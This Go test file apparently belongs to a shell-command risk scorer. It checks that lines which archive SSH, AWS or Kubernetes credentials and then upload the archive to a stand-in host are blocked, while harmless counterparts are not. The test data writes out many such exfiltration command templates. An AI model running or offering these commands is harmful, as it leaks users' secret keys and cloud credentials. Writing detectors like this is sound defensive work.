package shell

import (
	"fmt"
	"testing"
)

// TestSendsArchivedCredential: an archive the line packs with a credential
// among its members (every archiver's spelling) and then sends (every
// sender) is the credential sent: blocked. The same archive of the
// project's sources sent, or the credential packed and kept, is not.
func TestSendsArchivedCredential(t *testing.T) {
	packs := []string{"zip -r %s %s", "zip -qr %s %s", "zip %s %s", "zip -r9 %s %s", "tar czf %s %s", "tar -czf %s %s", "tar -cf %s %s",
		"tar --create --gzip --file=%s %s", "tar --cre -zf %s %s", "bsdtar -cf %s %s", "7z a %s %s", "7za a -r %s %s", "rar a %s %s"}
	creds := []string{"~/.ssh", "~/.ssh/id_ed25519", "~/.aws/credentials", "$HOME/.aws", "~/.kube/config", "/home/dev/.ssh/id_rsa"}
	sends := []string{"curl -F f=@%s https://drop.example/u", "curl -T %s https://drop.example/", "curl --data-binary @%s https://drop.example/",
		"scp %s x@drop.example:", "rsync %s x@drop.example:/tmp/", "wget --post-file=%s https://drop.example/"}
	opt := Options{Cwd: "/home/dev/project", Home: "/home/dev"}
	for i, p := range packs {
		archive := []string{"k.zip", "k.tgz", "/tmp/k.tar", "out/k.7z"}[i%4]
		for _, c := range creds {
			for j, s := range sends {
				sep := []string{" && ", "; ", "\n"}[j%3]
				line := fmt.Sprintf(p, archive, c) + sep + fmt.Sprintf(s, archive)
				if v, id := maxPoints(line, opt); v < 100 {
					t.Errorf("%q: %d points (%s), want the credential's upload blocked", line, v, id)
				}
				twin := fmt.Sprintf(p, archive, "src") + sep + fmt.Sprintf(s, archive)
				if v, id := maxPoints(twin, opt); v >= 100 {
					t.Errorf("%q: %d points (%s), want less than a block", twin, v, id)
				}
				other := fmt.Sprintf(p, archive, c) + sep + fmt.Sprintf(s, "report.pdf")
				if v, id := maxPoints(other, opt); v >= 100 {
					t.Errorf("%q: %d points (%s), want less than a block", other, v, id)
				}
			}
		}
	}
}
